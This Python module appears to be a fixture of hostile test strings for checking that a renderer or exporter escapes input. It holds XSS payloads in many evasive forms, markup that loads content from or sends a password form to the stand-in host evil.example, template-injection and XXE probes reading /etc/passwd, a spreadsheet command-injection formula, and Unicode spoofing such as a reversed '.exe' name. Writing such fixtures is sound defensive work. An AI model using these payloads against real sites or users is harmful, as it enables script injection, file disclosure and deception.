"""Texts written to break what shows them: each name says what it would do where nothing guards."""

from __future__ import annotations

# What a browser would do with it.
MARKUP = {
    "script": "<script>alert(1)</script>",
    "broken out of an attribute": "\"'><img src=x onerror=alert(1)>",
    "mixed case": "<ScRiPt/x>alert(1)</sCrIpT>",
    "nested": "<scr<script>ipt>alert(1)</script>",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    "javascript": '<a href="java\tscript:alert(1)">xem</a>',
    "data": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "foreign": '<link rel=stylesheet href="//evil.example/a.css"><img src="https://evil.example/p.gif">',
    "template": "{{7*7}} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "handler for each event": "<details open ontoggle=alert(1)><input autofocus onfocus=alert(1)><body onload=alert(1)>",
    "unclosed": "<img src=x onerror=alert(1) <b title='",
    "unclosed comment": "<!-- <svg/onload=alert(1)>",
    "slashes for spaces": "<img/src=x/onerror=alert(1)//",
    "entity in a scheme": "<a href='&#0000106avascript&colon;alert(1)'>x</a><a href=&#x6A;avascript:alert(1)>y</a>",
    "markup by entities of entities": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "srcdoc": '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href=//evil.example/>',
    "form": "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>",
    "style": "<style>@import '//evil.example/a.css'</style><p style=\"background:url(//evil.example/b)\">",
    "link by script": '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a><use href="data:,x#x"/></svg>',
    "htmx": '<b hx-get="https://evil.example/" hx-trigger=load hx-on::load="alert(1)" data-hx-on:click="alert(1)">x</b>',
    "hidden field": '<input name="seen" value="x"><input name=csrf value=x>',
    "plaintext": "<plaintext><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "markdown": "[x](javascript:alert(1)) ![x](https://evil.example/p.gif) **<img src=x onerror=alert(1)>**",
    "cdata": "<![CDATA[<script>alert(1)</script>]]> <?php echo 1 ?>",
    "deep": "<b>" * 400 + "sâu",
    "long word": "<" + "x" * 2_000 + ">",
    "out of a title": "</title></style></textarea></script><script>alert(1)</script>",
    "escaped already": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;",
}
# What a person reads otherwise than it is: signs that turn a line round, that nobody sees, that look like others.
TRICKS = {
    "turned round to the end of the page": "\u202etin giả",
    "tags that nobody sees": "tin\U000e0041\U000e0042 giả",
    "right to left": "vắc-xin \u202egpj.exe\u202c",
    "isolates": "\u2066tin\u2069 \u2067giả\u2069",
    "zero width": "vắc\u200b-\u200dxin\ufeff",
    "homoglyph": "vас-хin",
    "many marks": "a" + "\u0301" * 2_000,
    "one word": "dài" * 1_000,
}
# What XML, and a paper made of it, cannot hold.
CONTROLS = {
    "null": "tin\x00giả",
    "escape": "tin\x1b[31mgiả",
    "form feed": "tin\x0cgiả",
    "not a character": "tin\ufffe\uffffgiả",
    "entity": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
}
# What a spreadsheet would reckon when it opens a table.
FORMULAS = {
    "equals": "=cmd|'/c calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "space": " =1+1",
    "full width": "\uff1d1+1",
    "full width at": "\uff20SUM(1)",
    "zero width": "\u200b=1+1",
    "null": "\x00=1+1",
}
EVERY = {
    f"{kind}: {name}": text
    for kind, texts in {
        "markup": MARKUP,
        "tricks": TRICKS,
        "controls": CONTROLS,
        "formulas": FORMULAS,
    }.items()
    for name, text in texts.items()
}
